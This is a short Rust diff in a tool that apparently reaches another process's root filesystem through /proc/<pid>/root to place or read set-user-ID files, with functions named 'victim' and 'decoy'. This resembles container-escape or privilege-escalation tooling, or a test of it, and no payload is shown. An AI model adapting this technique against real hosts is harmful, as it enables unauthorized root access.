@@ -65,7 +65,7 @@ fn victim(decoy: &Decoy) -> Result<()> {
 
 /// The set-user-ID files lie in the root file system and on its volume, and everybody can reach them.
 fn setuid_files(stage: &Stage, decoy: &Decoy) -> Result<()> {
-    let content = fs::read(&stage.probe)?;
+    let content = fs::read(&stage.victim)?;
     let root = Directory::open(Path::new(&format!("/proc/{}/root", decoy.pid1())))?;
     let rootfs = root.below(ROOTFS)?;
     let volume = rootfs.in_root("data").context("its volume")?;
